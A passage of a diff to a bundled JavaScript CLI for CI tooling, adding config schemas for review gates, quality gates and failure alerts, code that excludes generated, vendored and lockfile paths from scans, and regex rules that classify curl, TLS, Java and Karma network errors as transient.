+    : a
+}
+
+module.exports = subset
+
+
+/***/ }),
+
+/***/ 4750:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const Range = __nccwpck_require__(6782)
+
+// Mostly just for testing and legacy API reasons
+const toComparators = (range, options) =>
+  new Range(range, options).set
+    .map(comp => comp.map(c => c.value).join(' ').trim().split(' '))
+
+module.exports = toComparators
+
+
+/***/ }),
+
+/***/ 4737:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const Range = __nccwpck_require__(6782)
+const validRange = (range, options) => {
+  try {
+    // Return '*' instead of '' so that truthiness works.
+    // This will throw if it's invalid anyway
+    return new Range(range, options).range || '*'
+  } catch (er) {
+    return null
+  }
+}
+module.exports = validRange
+
+
+/***/ }),
+
 /***/ 6927:
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3720);
+/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3024);
+/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__nccwpck_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
+/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(1165);
 
-// Entry of the bundled CLI (dist/cli/index.js).
-const code = await (0,_main_js__WEBPACK_IMPORTED_MODULE_0__/* .main */ .i)(process.argv.slice(2), {
+
+// Entry of the bundled CLI (dist/cli/index.js), also the `bin` of the published package.
+const code = await (0,_main_js__WEBPACK_IMPORTED_MODULE_1__/* .main */ .i)(process.argv.slice(2), {
     stdout: (t) => process.stdout.write(t),
     stderr: (t) => process.stderr.write(t),
     env: process.env,
     cwd: process.cwd(),
     stdin: process.stdin,
+    entry: process.argv[1] ? (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.realpathSync)(process.argv[1]) : undefined,
 });
 process.exitCode = code;
 
@@ -7217,7 +10461,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 3720:
+/***/ 1165:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -7273,6 +10517,9 @@ function asUserError(error) {
     const fs = fileErrorPhrase(error);
     if (fs && path)
         return new ConfigurationError(`${path}: ${fs}.`);
+    // Node leaves the path out of some (EISDIR from a read): still the user's, said as well as it can be.
+    if (fs && e.syscall)
+        return new ConfigurationError(`a path given ${fs} (${e.message}).`);
     if (code.startsWith('Z_') || /^(unexpected end of file|incorrect header check|invalid (block type|distance|stored block))/i.test(e.message))
         return new ConfigurationError(`the gzip data is truncated or corrupt (${e.message}); pass the complete .gz file, or the plain text.`);
     if (e.name === 'GitError')
@@ -7302,7 +10549,7 @@ const FILE_ERRORS = {
 };
 function gitUserError(message, stderr) {
     if (/not a git repository/i.test(stderr))
-        return new ConfigurationError('not inside a git repository; run it in a clone (or pass --repo DIR).');
+        return new ConfigurationError('not inside a git repository: check the repository out first (actions/checkout in a workflow; locally, run it in a clone).');
     if (/unknown revision|bad revision|ambiguous argument|invalid object name|not a valid object name|bad object/i.test(stderr))
         return new ConfigurationError(`${message.replace(/^git \S+ failed \(exit \d+\): /, '')}: no such revision in this repository; fetch it or check the name.`);
     if (/dubious ownership/i.test(stderr))
@@ -7417,7 +10664,7 @@ const classifySchema = {
     additionalProperties: false,
     properties: {
         confidence_threshold: {
-            description: 'Verdicts below this confidence (0 to 1) are reported as category "unknown".',
+            description: 'Verdicts below this confidence (0 to 1) keep their best category but are never called transient.',
             type: 'number',
             minimum: 0,
             maximum: 1,
@@ -7429,6 +10676,18 @@ const classifySchema = {
             minimum: 1,
             maximum: 720,
             default: 24,
+        },
+        failure_rate: {
+            description: 'Failure-rate tiers: the workflow failure rate over history_window_hours raises a failure to at least this severity, once the window holds min_runs runs.',
+            type: 'object',
+            additionalProperties: false,
+            properties: {
+                min_runs: { description: 'Fewest runs in the window before the rate counts.', type: 'integer', minimum: 1, default: 4 },
+                critical: { description: 'Rate (0 to 1) from which a failure is critical.', type: 'number', minimum: 0, maximum: 1, default: 0.5 },
+                high: { description: 'Rate (0 to 1) from which a failure is at least high.', type: 'number', minimum: 0, maximum: 1, default: 0.3 },
+                medium: { description: 'Rate (0 to 1) from which a failure is at least medium.', type: 'number', minimum: 0, maximum: 1, default: 0.15 },
+            },
+            default: {},
         },
         max_log_bytes: {
             description: 'Most bytes read from each failed job log; the log is streamed and the rest is not downloaded.',
@@ -7632,6 +10891,17 @@ const notifySchema = {
                 by_severity: { type: 'boolean', description: 'Add `severity:<severity>`.', default: true },
             },
         },
+        escalate_after: {
+            type: 'string',
+            description: 'How long a critical failure may stay unacknowledged before the scheduled sweep escalates it (once per episode), e.g. "15m".',
+            pattern: '^\\d+\\s*[smhd]$',
+            default: '15m',
+        },
+        acknowledge_label: {
+            type: 'string',
+            description: 'Label that acknowledges a failure issue (so does any reaction on it); the sweep does not escalate an acknowledged issue.',
+            default: 'acknowledged',
+        },
         escalation: {
             type: 'object',
             description: 'Who is pulled in when a failure is critical (first failure, regression or escalation only).',
@@ -7734,13 +11004,25 @@ const scanSchema = {
 ;// CONCATENATED MODULE: ./packages/core/src/config/sections/review-hash.ts
 /**
  * `review_hash:` in .github/closed-loop.yml. The action reads this file at the merge-base (already on the
- * base branch), so a pull request cannot relax its own check. Action inputs, when set, take precedence.
+ * base branch), so a pull request cannot relax its own check. Action inputs can only tighten it.
  */
 const reviewHashSchema = {
     type: 'object',
     description: 'Settings for the Review-Hash gate (review-hash-validate and `closed-loop review-hash`).',
     additionalProperties: false,
     properties: {
+        proof: {
+            description: 'Proofs of review the gate requires, all of them: "review" (an APPROVED GitHub review, by a writer who is not the author and wrote none of the commits, on a commit with the same Review-Hash) and/or "trailer" (the Review-Hash trailer, with review_id, audit_log and signature checks).',
+            type: 'array',
+            items: { enum: ['review', 'trailer'] },
+            minItems: 1,
+            default: ['review'],
+        },
+        require_signature: {
+            description: 'Require a Review-Signature trailer verified with the signing-key secret; fails closed ("signature") when no key is available (fork runs).',
+            type: 'boolean',
+            default: false,
+        },
         scope: {
             description: 'What the hash covers: "changes" (the diff against the merge-base) or "snapshot" (the whole head tree; any base update invalidates the review).',
             enum: ['changes', 'snapshot'],
@@ -7761,10 +11043,340 @@ const reviewHashSchema = {
             type: 'string',
             default: '',
         },
+        local_gate: {
+            description: 'What the commit-msg hook does when the staged code has no approved review: "warn" (print, commit anyway), "block" (refuse the commit unless the audit log has an approved record of the staged Review-Hash) or "off".',
+            enum: ['warn', 'block', 'off'],
+            default: 'warn',
+        },
     },
 };
 
+;// CONCATENATED MODULE: ./packages/core/src/scan/paths.ts
+/** Which paths are scanned: vendored code, lock files and binaries are skipped by default. */
+const DEFAULT_EXCLUDE = [
+    '**/node_modules/**',
+    '**/vendor/**',
+    '**/third_party/**',
+    '**/bower_components/**',
+    '**/.yarn/**',
+    '**/*.min.js',
+    '**/*.min.css',
+    '**/*.map',
+    '**/package-lock.json',
+    '**/npm-shrinkwrap.json',
+    '**/yarn.lock',
+    '**/pnpm-lock.yaml',
+    '**/bun.lockb',
+    '**/Cargo.lock',
+    '**/Gemfile.lock',
+    '**/poetry.lock',
+    '**/Pipfile.lock',
+    '**/composer.lock',
+    '**/go.sum',
+    '**/*.lock',
+    '**/.closed-loop/secrets-baseline.json',
+];
+/** Extensions of formats that are binary (scanned as text they only produce noise). */
+const BINARY_EXTENSIONS = new Set('png jpg jpeg gif bmp ico webp tiff psd pdf zip gz tgz bz2 xz 7z rar jar war ear class so dll exe dylib o a lib bin dat woff woff2 ttf otf eot mp3 mp4 wav ogg mov avi mkv webm pyc pyo wasm db sqlite sqlite3 p12 pfx keystore jks der'.split(' '));
+const DEFAULT_FIXTURES = ['**/fixtures/**', '**/__fixtures__/**', '**/testdata/**', '**/test-data/**'];
+/** `**` crosses folders, `*` and `?` do not; a pattern without `/` matches the base name anywhere. */
+function globToRegExp(glob) {
+    const pattern = glob.includes('/') ? glob.replace(/^\.?\//, '') : `**/${glob}`;
+    let out = '';
+    for (let i = 0; i < pattern.length; i++) {
+        const ch = pattern[i];
+        if (ch === '*' && pattern[i + 1] === '*') {
+            const slash = pattern[i + 2] === '/';
+            out += slash ? '(?:.*/)?' : '.*';
+            i += slash ? 2 : 1;
+        }
+        else if (ch === '*')
+            out += '[^/]*';
+        else if (ch === '?')
+            out += '[^/]';
+        else
+            out += /[.+^${}()|[\]\\]/.test(ch) ? `\\${ch}` : ch;
+    }
+    return new RegExp(`^${out}$`);
+}
+const ANY_FOLDER = '^(?:.*\\/)?';
+/**
+ * One expression matching what any of the given ones matches. Those starting in any folder (`**\/…`)
+ * share that prefix, so the engine tries it once rather than once per glob.
+ */
+function combine(sources) {
+    const anywhere = sources.filter((s) => s.startsWith(ANY_FOLDER) && s.endsWith('$'));
+    const others = sources.filter((s) => !anywhere.includes(s));
+    const parts = others.map((s) => `(?:${s})`);
+    if (anywhere.length)
+        parts.push(`(?:${ANY_FOLDER}(?:${anywhere.map((s) => `(?:${s.slice(ANY_FOLDER.length, -1)})`).join('|')})$)`);
+    return new RegExp(parts.join('|'));
+}
+/** Compiled matchers by glob list: a scanner is built per scan, its globs are nearly always the same. */
+const compiled = new Map();
+class paths_PathMatcher {
+    /** One alternation of every glob's expression (each anchored); undefined when there are none. */
+    pattern;
+    constructor(globs) {
+        const key = globs.join('\0');
+        if (compiled.has(key))
+            this.pattern = compiled.get(key);
+        else {
+            this.pattern = globs.length ? combine(globs.map((g) => globToRegExp(g).source)) : undefined;
+            if (compiled.size < 64)
+                compiled.set(key, this.pattern);
+        }
+    }
+    matches(path) {
+        return this.pattern !== undefined && this.pattern.test(path);
+    }
+}
+function hasBinaryExtension(path) {
+    const dot = path.lastIndexOf('.');
+    return dot > path.lastIndexOf('/') && BINARY_EXTENSIONS.has(path.slice(dot + 1).toLowerCase());
+}
+/** Text of a file's bytes, or undefined when it is binary (a NUL in the first 8 KiB, as git decides). */
+function decodeText(bytes) {
+    const head = bytes.subarray(0, 8000);
+    if (head.includes(0))
+        return undefined;
+    return Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString('utf8');
+}
+/** Lines of a text, 1-based, with `\r\n` and lone `\r` endings removed. */
+function textLines(text) {
+    const parts = text.split('\n');
+    if (parts[parts.length - 1] === '')
+        parts.pop();
+    return parts.map((t, i) => ({ line: i + 1, text: t.endsWith('\r') ? t.slice(0, -1) : t }));
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/discover/leave-out.ts
+/**
+ * What nobody edits by hand — generated, vendored and documentation files, lockfiles, minified
+ * bundles — is left out of every signal, by the conventions maintainers already keep, and counted so
+ * nothing is hidden silently.
+ */
+
+/** Reason each linguist attribute gives (https://github.com/github-linguist/linguist/blob/main/docs/overrides.md). */
+const ATTRIBUTE_REASON = {
+    'linguist-generated': 'generated',
+    'linguist-vendored': 'vendored',
+    'linguist-documentation': 'documentation',
+};
+/**
+ * Parses `git check-attr -z` output: `path NUL attribute NUL value NUL` per record. `set` and `true`
+ * mark the path; `unset` (`-attr`) and `false` clear it; `unspecified` says nothing.
+ */
+function parseCheckAttr(output) {
+    const out = new Map();
+    const fields = output.split('\0');
+    for (let i = 0; i + 2 < fields.length; i += 3) {
+        const [path, attr, value] = [fields[i], fields[i + 1], fields[i + 2]];
+        const state = value === 'set' || value === 'true' ? 'set' : value === 'unset' || value === 'false' ? 'cleared' : undefined;
+        if (!state)
+            continue;
+        const m = out.get(path) ?? new Map();
+        m.set(attr, state);
+        out.set(path, m);
+    }
+    return out;
+}
+/**
+ * Headers that say a file is written by a tool. Each comes from the tool's own convention:
+ * - Go (https://go.dev/s/generatedcode): a line matching `^// Code generated .* DO NOT EDIT\.$`,
+ *   written by protoc-gen-go, sqlc, mockgen, stringer, controller-gen…
+ * - protoc for C++/Python/Java/C#: "Generated by the protocol buffer compiler.  DO NOT EDIT!"
+ * - `@generated` (Meta's convention; rustfmt's `format_generated_files`, Relay, Buck, Thrift).
+ * - `<auto-generated>` (Roslyn/.NET's marker for generated C# and VB).
+ */
+const GO_GENERATED = /^\/\/ Code generated .* DO NOT EDIT\.\r?$/m;
+const OTHER_HEADERS = [
+    [/Generated by the protocol buffer compiler\. +DO NOT EDIT!/, 'protoc header "Generated by the protocol buffer compiler. DO NOT EDIT!"'],
+    [/(?:^|[\s*#/;-])@generated\b/m, '`@generated` marker'],
+    [/<auto-generated\b/, '`<auto-generated>` marker'],
+];
+/**
+ * The same headers as one extended regular expression for `git grep -E` (which searches the whole
+ * tree in one process instead of us opening every file); hits are confirmed by generatedHeader.
+ */
+const GENERATED_HEADER_GREP = ['Code generated .* DO NOT EDIT', 'Generated by the protocol buffer compiler', '@generated', '<auto-generated'];
+/** A header is in the first lines of a file. */
+const HEADER_LINES = 40;
+/** Headers sit at the top: only this much of a file is searched for the non-Go markers. */
+const HEAD_BYTES = 2048;
+/** Which generated-file header a file carries, if any (and its name for the report). */
+function generatedHeader(text) {
+    // Go allows the line anywhere before the package clause; in practice it is in the first lines.
+    if (GO_GENERATED.test(text.slice(0, 16 * 1024)))
+        return '"// Code generated … DO NOT EDIT." header';
+    const head = text.slice(0, HEAD_BYTES);
+    for (const [pattern, name] of OTHER_HEADERS)
+        if (pattern.test(head))
+            return name;
+    return undefined;
+}
+const MINIFIABLE = /\.(?:js|mjs|cjs|css)$/i;
+const MIN_NAME = /[.-]min\.(?:js|mjs|cjs|css)$/i;
+/** Linguist's rule (generated.rb `minified_files?`): average line length above 110 characters. */
+const MINIFIED_LINE = 110;
+function isMinified(path, text) {
+    if (MIN_NAME.test(path))
+        return true;
+    if (text === undefined || !MINIFIABLE.test(path) || text.length < 1000)
+        return false;
+    const lines = text.split('\n').length;
+    return text.length / lines > MINIFIED_LINE;
+}
+/** Records every path left out, with its reason and the rule that decided, for the report. */
+class LeaveOutLedger {
+    reasons = new Map();
+    has(path) {
+        return this.reasons.has(path);
+    }
+    add(path, reason, rule) {
+        if (!this.reasons.has(path))
+            this.reasons.set(path, { reason, rule });
+    }
+    get size() {
+        return this.reasons.size;
+    }
+    /** Per reason: how many files, by which rules, and a few examples (sorted, so the report is stable). */
+    summary() {
+        const by = new Map();
+        for (const [path, { reason, rule }] of [...this.reasons].sort(([a], [b]) => (a < b ? -1 : 1))) {
+            const e = by.get(reason) ?? { files: 0, rules: new Map(), examples: [] };
+            e.files++;
+            e.rules.set(rule, (e.rules.get(rule) ?? 0) + 1);
+            if (e.examples.length < 3)
+                e.examples.push(path);
+            by.set(reason, e);
+        }
+        return [...by]
+            .map(([reason, e]) => ({
+            reason,
+            files: e.files,
+            rules: [...e.rules].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1)).map(([rule, files]) => ({ rule, files })),
+            examples: e.examples,
+        }))
+            .sort((a, b) => b.files - a.files || (a.reason < b.reason ? -1 : 1));
+    }
+}
+/** "412 generated files left out (400 by … header, 12 by linguist-generated)". */
+function describeLeftOut(l) {
+    const s = l.files === 1 ? '' : 's';
+    const noun = l.reason === 'excluded' ? `file${s} excluded` : l.reason === 'lockfile' ? `lockfile${s} left out` : `${l.reason} file${s} left out`;
+    return `${l.files} ${noun} (${l.rules.map((r) => `${r.files} by ${r.rule}`).join(', ')})`;
+}
+/** The footer of a table of items: what no signal looked at, and why (one line per reason). */
+function leftOutFooter(leftOut) {
+    if (!leftOut.length)
+        return ['Left out: nothing (no generated, vendored, lockfile, minified or excluded file found).'];
+    const total = leftOut.reduce((n, l) => n + l.files, 0);
+    return [
+        `Left out of every signal: ${total} file${total === 1 ? '' : 's'} nobody edits by hand (value_discovery.leave_out and exclude):`,
+        ...leftOut.map((l) => `- ${describeLeftOut(l)}, e.g. ${l.examples.join(', ')}`),
+    ];
+}
+/**
+ * Classifies tracked paths: gitattributes first (the maintainers' explicit word, which can also clear
+ * a heuristic), then generated-code headers, vendored folders, lockfiles, minified names, then the
+ * user's `exclude` globs.
+ */
+function leaveOutByPath(paths, attributes, settings, exclude, 
+/** Generated-code headers found by `git grep` (path → header), see parseHeaderGrep. */
+headers = new Map()) {
+    const ledger = new LeaveOutLedger();
+    const vendored = new paths_PathMatcher(settings.vendored);
+    const lockfiles = new paths_PathMatcher(settings.lockfiles);
+    const excluded = new paths_PathMatcher(exclude);
+    for (const path of paths) {
+        const attrs = attributes.get(path);
+        let cleared = false;
+        for (const attr of settings.attributes) {
+            const state = attrs?.get(attr);
+            if (state === 'set')
+                ledger.add(path, ATTRIBUTE_REASON[attr] ?? 'generated', `.gitattributes ${attr}`);
+            else if (state === 'cleared')
+                cleared = true;
+        }
+        if (ledger.has(path) || cleared)
+            continue;
+        const header = settings.generated_headers ? headers.get(path) : undefined;
+        if (header)
+            ledger.add(path, 'generated', header);
+        else if (vendored.matches(path))
+            ledger.add(path, 'vendored', 'vendored folder');
+        else if (lockfiles.matches(path))
+            ledger.add(path, 'lockfile', 'lockfile name');
+        else if (settings.minified && isMinified(path))
+            ledger.add(path, 'minified', '`.min.` name');
+        else if (excluded.matches(path))
+            ledger.add(path, 'excluded', 'value_discovery.exclude');
+    }
+    return ledger;
+}
+/**
+ * Parses `git grep -n -z` hits of GENERATED_HEADER_GREP into the header each file carries: only hits
+ * in the first HEADER_LINES lines that generatedHeader confirms count.
+ */
+function parseHeaderGrep(output) {
+    const out = new Map();
+    for (const record of output.split('\n')) {
+        const [path, lineNo, ...rest] = record.split('\0');
+        if (!path || out.has(path) || Number(lineNo) > HEADER_LINES)
+            continue;
+        const header = generatedHeader(rest.join('\0'));
+        if (header)
+            out.set(path, header);
+    }
+    return out;
+}
+/** Classifies a file by its contents (headers, minified lines); true when it was left out. */
+function leaveOutByContent(ledger, path, text, settings) {
+    if (ledger.has(path))
+        return true;
+    if (settings.generated_headers) {
+        const header = generatedHeader(text);
+        if (header) {
+            ledger.add(path, 'generated', header);
+            return true;
+        }
+    }
+    if (settings.minified && isMinified(path, text)) {
+        ledger.add(path, 'minified', `lines averaging over ${MINIFIED_LINE} characters`);
+        return true;
+    }
+    return false;
+}
+const DEFAULT_LEAVE_OUT = {
+    attributes: Object.keys(ATTRIBUTE_REASON),
+    generated_headers: true,
+    minified: true,
+    vendored: ['**/vendor/**', '**/node_modules/**', '**/third_party/**', '**/bower_components/**', '**/Godeps/_workspace/**'],
+    lockfiles: [
+        'package-lock.json',
+        'npm-shrinkwrap.json',
+        'yarn.lock',
+        'pnpm-lock.yaml',
+        'bun.lockb',
+        'Cargo.lock',
+        'Gemfile.lock',
+        'poetry.lock',
+        'Pipfile.lock',
+        'uv.lock',
+        'composer.lock',
+        'go.sum',
+        'gradle.lockfile',
+        'packages.lock.json',
+        'mix.lock',
+        'pubspec.lock',
+        'Podfile.lock',
+        'flake.lock',
+    ],
+};
+
 ;// CONCATENATED MODULE: ./packages/core/src/config/sections/value-discovery.ts
+
 const weight = (description, value) => ({ type: 'number', minimum: 0, maximum: 1, description, default: value });
 const count = (description, value, minimum = 0) => ({ type: 'integer', minimum, description, default: value });
 /** `value_discovery:` in .github/closed-loop.yml: what the harvesters look at and how items are ranked. */
@@ -7791,9 +11403,45 @@ const valueDiscoverySchema = {
             items: { type: 'string', pattern: '^[A-Za-z][A-Za-z0-9_-]*$' },
             default: ['TODO', 'FIXME', 'HACK', 'XXX'],
         },
+        leave_out: {
+            type: 'object',
+            description: 'What nobody edits by hand, left out of every signal and counted in the report: generated, vendored and documentation files, lockfiles, minified bundles.',
+            additionalProperties: false,
+            default: {},
+            properties: {
+                attributes: {
+                    type: 'array',
+                    description: 'gitattributes (resolved by `git check-attr`) that leave a path out; `-attr` or `attr=false` keeps a path the other rules would leave out, as in linguist.',
+                    items: { type: 'string', pattern: '^[A-Za-z0-9_.][A-Za-z0-9_.-]*$' },
+                    default: DEFAULT_LEAVE_OUT.attributes,
+                },
+                generated_headers: {
+                    type: 'boolean',
+                    description: 'Leave out files whose header says a tool wrote them: `// Code generated … DO NOT EDIT.` (Go, protoc-gen-go, sqlc, mockgen…), protoc\'s "DO NOT EDIT!", `@generated`, `<auto-generated>`.',
+                    default: DEFAULT_LEAVE_OUT.generated_headers,
+                },
+                minified: {
+                    type: 'boolean',
+                    description: 'Leave out minified JavaScript and CSS (`*.min.js`, or lines averaging over 110 characters, as linguist decides).',
+                    default: DEFAULT_LEAVE_OUT.minified,
+                },
+                vendored: {
+                    type: 'array',
+                    description: 'Globs of vendored code (copied in, maintained elsewhere).',
+                    items: { type: 'string', minLength: 1 },
+                    default: DEFAULT_LEAVE_OUT.vendored,
+                },
+                lockfiles: {
+                    type: 'array',
+                    description: 'Lockfile names or globs (written by package managers).',
+                    items: { type: 'string', minLength: 1 },
+                    default: DEFAULT_LEAVE_OUT.lockfiles,
+                },
+            },
+        },
         exclude: {
             type: 'array',
-            description: 'Glob patterns of paths no harvester reports (`**` any depth, `*` within a segment).',
+            description: 'Glob patterns of paths no harvester reports (`**` any depth, `*` within a segment); counted in the report as excluded.',
             items: { type: 'string', minLength: 1 },
             default: ['dist/**', '**/node_modules/**', 'vendor/**', '**/*.min.js', '**/package-lock.json', '**/*.lock', '**/fixtures/**'],
         },
@@ -7827,7 +11475,80 @@ const valueDiscoverySchema = {
     },
 };
 
+;// CONCATENATED MODULE: ./packages/core/src/config/sections/quality-gate.ts
+const percent = (description, fallback) => ({ type: 'number', minimum: 0, maximum: 100, description, default: fallback });
+const words = (description, fallback) => ({
+    type: 'array',
+    description,
+    items: { type: 'string', pattern: '^[A-Za-z0-9_.-]+$' },
+    default: fallback,
+});
+/** `quality_gate:` in .github/closed-loop.yml: coverage, benchmark regression and commit conventions (quality-gate action, `closed-loop gate`). */
+const qualityGateSchema = {
+    type: 'object',
+    description: 'Settings of the quality gate: coverage, performance regression and commit conventions (the quality-gate action and closed-loop gate).',
+    additionalProperties: false,
+    properties: {
+        coverage: {
+            type: 'object',
+            description: 'Coverage gate: total and patch coverage of the report the tests wrote.',
+            additionalProperties: false,
+            properties: {
+                min_patch: percent('Minimum share (%) of the executable lines a change adds that the tests ran.', 80),
+                min_total: percent('Minimum total coverage (%); 0 turns the check off.', 0),
+                max_drop: percent('Largest allowed drop of total coverage against the base report, in percentage points.', 1),
+            },
+        },
+        bench: {
+            type: 'object',
+            description: "Benchmark gate: the head results against the default branch's.",
+            additionalProperties: false,
+            properties: {
+                tolerance: percent('Largest tolerated slowdown (%); a larger one fails when it is also outside the noise.', 5),
+                confidence: {
+                    type: 'number',
+                    minimum: 0.5,
+                    maximum: 0.999,
+                    description: 'Confidence of the interval that separates a change from noise.',
+                    default: 0.95,
+                },
+                artifact: {
+                    type: 'string',
+                    minLength: 1,
+                    description: "Name of the artifact holding the default branch's results (uploaded by the quality-gate workflow).",
+                    default: 'quality-gate-bench',
+                },
+            },
+        },
+        commits: {
+            type: 'object',
+            description: 'Commit-convention gate: the PR title and every commit the PR adds.',
+            additionalProperties: false,
+            properties: {
+                types: words('Allowed types.', ['feat', 'fix', 'docs', 'test', 'refactor', 'perf', 'ci', 'security', 'chore', 'build', 'style', 'revert']),
+                scopes: words('Allowed scopes; empty allows any.', []),
+                require_scope: { type: 'boolean', description: 'Every header must name a scope.', default: false },
+                max_header_length: { type: 'integer', minimum: 20, maximum: 1000, description: 'Longest allowed first line.', default: 100 },
+                merge_commits: {
+                    type: 'string',
+                    enum: ['skip', 'check'],
+                    description: 'skip: merge commits are not checked (git writes their message); check: they must follow the convention.',
+                    default: 'skip',
+                },
+                fixup_commits: {
+                    type: 'string',
+                    enum: ['fail', 'skip'],
+                    description: 'fail: fixup!/squash!/amend! commits must be squashed before merging; skip: allowed (for squash merges).',
+                    default: 'fail',
+                },
+                check_title: { type: 'boolean', description: "Check the pull request's title too (it becomes the commit of a squash merge).", default: true },
+            },
+        },
+    },
+};
+
 ;// CONCATENATED MODULE: ./packages/core/src/config/sections/index.ts
+
 
 
 
@@ -7842,6 +11563,7 @@ const SECTIONS = {
     scan: scanSchema,
     review_hash: reviewHashSchema,
     value_discovery: valueDiscoverySchema,
+    quality_gate: qualityGateSchema,
 };
 
 ;// CONCATENATED MODULE: ./packages/core/src/config/schema.ts
@@ -11860,6 +15582,141 @@ const infrastructureRules = [
     },
 ];
 
+;// CONCATENATED MODULE: ./packages/core/src/classify/rules/network-catalogue.ts
+/**
+ * Network failures in the words of the tools' own error catalogues, beyond the generic socket errors in
+ * infrastructure.ts. All transient: the scanner drops the flag inside a test's own failure.
+ */
+const networkCatalogueRules = [
+    {
+        // curl's exit codes (curl.se/libcurl/c/libcurl-errors.html; `man curl`, EXIT CODES), as curl and
+        // git (which prints curl's error after `fatal: unable to access '…':`) word them: 16 HTTP/2, 18
+        // partial file, 28 timeout, 35 SSL connect error, 52 empty reply, 55/56 send/recv failure.
+        id: 'infrastructure/curl-transfer',
+        category: 'infrastructure',
+        subcategory: 'network',
+        pattern: /Empty reply from server|SSL connect error|Failure when receiving data from the peer|Failed sending data to the peer|Recv failure: |Send failure: |transfer closed with (\d+ bytes|outstanding read data) remaining|HTTP\/2 stream \d+ was not closed cleanly|Error in the HTTP2 framing layer|Operation timed out after \d+ milliseconds|Connection timed out after \d+ milliseconds|Resolving timed out after \d+ milliseconds|GnuTLS recv error \(-?\d+\)/i,
+        weight: 0.85,
+        keywords: [
+            'empty reply',
+            'ssl connect error',
+            'failure when receiving',
+            'failed sending',
+            'recv failure',
+            'send failure',
+            'transfer closed',
+            'http/2 stream',
+            'http2 framing',
+            'timed out after',
+            'gnutls recv error',
+        ],
+        transient: true,
+        examples: {
+            match: [
+                'curl: (52) Empty reply from server',
+                'curl: (35) SSL connect error',
+                "fatal: unable to access 'https://github.com/o/r.git/': Empty reply from server",
+                'curl: (56) Recv failure: Connection reset by peer',
+                'curl: (18) transfer closed with 1234 bytes remaining to read',
+                'curl: (28) Operation timed out after 30001 milliseconds with 0 out of 0 bytes received',
+                'curl: (16) HTTP/2 stream 1 was not closed cleanly: INTERNAL_ERROR (err 2)',
+                "fatal: unable to access 'https://x/': GnuTLS recv error (-110): The TLS connection was non-properly terminated.",
+            ],
+            noMatch: ['curl: (22) The requested URL returned error: 404', 'Received 200 OK from server'],
+        },
+    },
+    {
+        // OpenSSL's handshake alerts and errors (openssl.org/docs/man3.0/man3/ERR_error_string.html:
+        // `error:<code>:<library>:<function>:<reason>`; alert names from RFC 8446 §6), and Java's JSSE
+        // SSLHandshakeException / SSLException wording.
+        id: 'infrastructure/tls-handshake',
+        category: 'infrastructure',
+        subcategory: 'network',
+        pattern: /SSL routines[:\w ]*:(sslv3|tlsv1[\w.]*) alert (handshake failure|internal error|protocol version)|SSL routines[:\w ]*:unexpected eof while reading|\bSSL_connect\b.*(SSL_ERROR_SYSCALL|Connection reset|errno)|SSLHandshakeException: (Remote host (terminated|closed) the handshake|Received fatal alert)|SSLException: (Connection reset|Read timed out)|handshake failed.*(EOF|reset|timeout)/i,
+        weight: 0.8,
+        keywords: ['ssl routines', 'ssl_connect', 'sslhandshakeexception', 'sslexception', 'handshake failed'],
+        transient: true,
+        examples: {
+            match: [
+                'error:14094410:SSL routines:ssl3_read_bytes:sslv3 alert handshake failure',
+                'error:0A000126:SSL routines::unexpected eof while reading',
+                'OpenSSL SSL_connect: Connection reset by peer in connection to github.com:443',
+                'javax.net.ssl.SSLHandshakeException: Remote host terminated the handshake',
+            ],
+            noMatch: ['error:1416F086:SSL routines:tls_process_server_certificate:certificate verify failed', 'TLS handshake completed'],
+        },
+    },
+    {
+        // HTTP clients that could not open a connection: Java's java.net exceptions (ConnectException,
+        // NoRouteToHostException, UnknownHostException, SocketTimeoutException), Apache HttpClient's
+        // HttpHostConnectException, and the "could not create/establish connection to host:port" wording.
+        id: 'infrastructure/client-connect',
+        category: 'infrastructure',
+        subcategory: 'network',
+        pattern: /could not (create|establish|open) (a )?connection to \S+|java\.net\.(ConnectException|NoRouteToHostException|UnknownHostException|SocketTimeoutException|SocketException: (Connection reset|Broken pipe))|HttpHostConnectException|NoHttpResponseException|kex_exchange_identification: (Connection closed|read: Connection reset)/i,
+        weight: 0.8,
+        keywords: [
+            'could not create',
+            'could not establish',
+            'could not open',
+            'java.net.',
+            'httphostconnectexception',
+            'nohttpresponseexception',
+            'kex_exchange_identification',
+        ],
+        transient: true,
+        examples: {
+            match: [
+                'Could not create connection to repo.example.org:443',
+                'java.net.UnknownHostException: repo.maven.apache.org',
+                'org.apache.http.conn.HttpHostConnectException: Connect to repo1.maven.org:443 failed',
+                'kex_exchange_identification: Connection closed by remote host',
+            ],
+            noMatch: ['Created connection pool to db:5432', 'java.net.URI parsed'],
+        },
+    },
+    {
+        // Karma's own messages when a captured browser stops talking (karma-runner/karma lib/browser.js,
+        // lib/launchers/capture_timeout.js, lib/executor.js): a remote or headless browser that went away.
+        id: 'infrastructure/browser-disconnect',
+        category: 'infrastructure',
+        subcategory: 'browser-disconnect',
+        pattern: /Disconnected,? because no message in \d+ ms|Disconnected \(\d+ times?\)|have not captured in \d+ ms, killing|failed \d+ times? \(timeout\)\. Giving up|No captured browser, open https?:|Browser .* (disconnect|crashed)|reconnect failed before timeout/i,
+        weight: 0.8,
+        keywords: ['disconnected', 'have not captured', 'giving up', 'no captured browser', 'browser', 'reconnect failed'],
+        transient: true,
+        examples: {
+            match: [
+                'HeadlessChrome 79.0.3945 (Linux 0.0.0) ERROR Disconnected, because no message in 30000 ms.',
+                'WARN [Chrome 123.0.0.0 (Windows 10)]: Disconnected (3 times) reconnect failed before timeout of 2000ms (transport close)',
+                'WARN [launcher]: ChromeHeadless have not captured in 60000 ms, killing.',
